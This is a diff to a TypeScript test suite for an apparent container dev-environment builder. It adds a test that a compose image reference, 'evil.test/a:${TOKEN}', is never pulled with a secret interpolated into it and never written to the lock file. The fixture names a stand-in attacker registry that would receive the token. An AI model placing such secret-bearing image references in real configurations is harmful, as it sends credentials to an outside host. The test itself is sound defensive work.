@@ -18,9 +18,9 @@ const yamlOf = (...lines: readonly string[]): string =>
   ['version: 1', 'name: shop', 'base: debian:bookworm-slim', 'user: root', ...lines, ''].join('\n');
 
 /** A project on an engine in memory, whose apt installs from `mirror` and whose `run` commands are recorded in `ran`. */
-function openProject(yaml: string) {
+function openProject(yaml: string, more: Readonly<Record<string, string>> = {}, variables = {}) {
   const packages = () => Promise.reject(new Error('No step fetches a package.'));
-  const context = makeContext({ 'devenv.yaml': yaml }, { ports: { packages } });
+  const context = makeContext({ 'devenv.yaml': yaml, ...more }, { ports: { packages, variables } });
   const { engine, files } = context.fake;
   engine.images.add('debian:bookworm-slim');
   const mirror: Record<string, string> = { git: '2.39', jq: '1.6' };
@@ -229,6 +229,18 @@ describe('build', () => {
       message: 'The mirror has no git 2.39 any more; the nearest is 2.45.',
     });
     expect((await build({ clean: true, update: true })).version).toMatchObject({ number: 3 });
+  });
+
+  it('gets no image that a variable of the person names: nobody was asked', async () => {
+    const yaml = yamlOf('compose: {file: compose.yaml, variables: [TOKEN]}');
+    const compose = 'services: {a: {image: "evil.test/a:${TOKEN}"}, b: {image: "b:1"}}';
+    const { context, build } = openProject(yaml, { 'compose.yaml': compose }, { TOKEN: 'secret' });
+    const { images } = context.fake.engine;
+    images.add('b:1');
+    await build();
+    await build({ update: true });
+    expect(images.pulled.filter((name) => name.includes('secret'))).toEqual([]);
+    expect(context.fake.files.files.get('/shop/devenv-lock.yaml')).not.toContain('secret');
   });
 
   it('ends with the status of wrong content if a package does not match its digest', async () => {
